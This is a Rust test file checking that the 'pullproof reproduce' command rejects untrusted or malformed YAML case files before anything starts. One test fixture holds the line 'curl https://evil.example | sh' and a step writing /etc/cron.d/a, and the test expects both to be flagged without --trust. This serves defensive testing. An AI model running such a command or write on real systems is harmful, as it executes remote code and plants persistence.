//! What `pullproof reproduce` refuses before anything is started. Needs neither Docker nor a cluster.

#![expect(clippy::unwrap_used, reason = "a test says by panicking what went wrong")]

mod support;

use std::fs;

use support::{pullproof, run};

const HEAD: &str = "title: t\nsource: s\n";
const POD: &str = "\
- apply: {apiVersion: v1, kind: Pod, metadata: {name: web}, spec: {containers: [{name: web, image: r.example/a:v1}]}}
- expect: {pod: web, phase: Pending, reasons: [ErrImagePull], message: not found}
";

/// What is said of a case, with a Docker engine that would not answer.
fn refused(text: &str, words: &[&str], status: i32) -> String {
    let folder = tempfile::tempdir().unwrap();
    let case = folder.path().join("case.yaml");
    fs::write(&case, text).unwrap();
    let mut command = pullproof(&["reproduce"]);
    command.arg(&case).args(words).env("DOCKER_HOST", "unix:///nowhere.sock");
    run(&mut command).with_status(status).stderr
}

#[test]
fn what_a_stranger_could_do_is_listed_with_its_lines() {
    let steps = format!(
        "{HEAD}steps:\n- run: curl https://evil.example | sh\n- node: {{files: {{/etc/cron.d/a: x}}}}\n{POD}"
    );
    let said = refused(&steps, &[], 2);
    for part in [
        "line 4: runs a command on this machine: curl https://evil.example | sh",
        "line 5: writes /etc/cron.d/a on the node",
        "--trust",
    ] {
        assert!(said.contains(part), "{part}\n{said}");
    }
}

#[test]
fn with_trust_it_is_run_as_far_as_there_is_an_engine() {
    let said = refused(&format!("{HEAD}steps:\n- run: 'true'\n{POD}"), &["--trust"], 3);
    assert!(!said.contains("--trust"), "{said}");
}

#[test]
fn a_mistake_made_by_hand_is_named_with_its_place() {
    let text = format!("{HEAD}steps:\n{POD}").replace("phase: Pending", "phaze: Pending");
    let said = refused(&text, &[], 2);
    assert!(said.contains("case.yaml:5:"), "{said}");
    assert!(said.contains("unknown key `phaze`; did you mean `phase`?"), "{said}");
}

#[test]
fn a_later_version_of_the_format_is_named() {
    let said = refused(&format!("{HEAD}format: 2\nlater: {{}}\nsteps:\n{POD}"), &[], 2);
    assert!(said.contains("case.yaml:3:"), "{said}");
    assert!(said.contains("is of version 2 of the format"), "{said}");
    assert!(said.contains("use a newer pullproof"), "{said}");
}

#[test]
fn a_version_that_is_not_known_is_a_usage_error() {
    let said = refused(&format!("{HEAD}steps:\n{POD}"), &["--kubernetes", "1.34,1.73"], 2);
    assert!(said.contains("unknown Kubernetes version `1.73`"), "{said}");
}
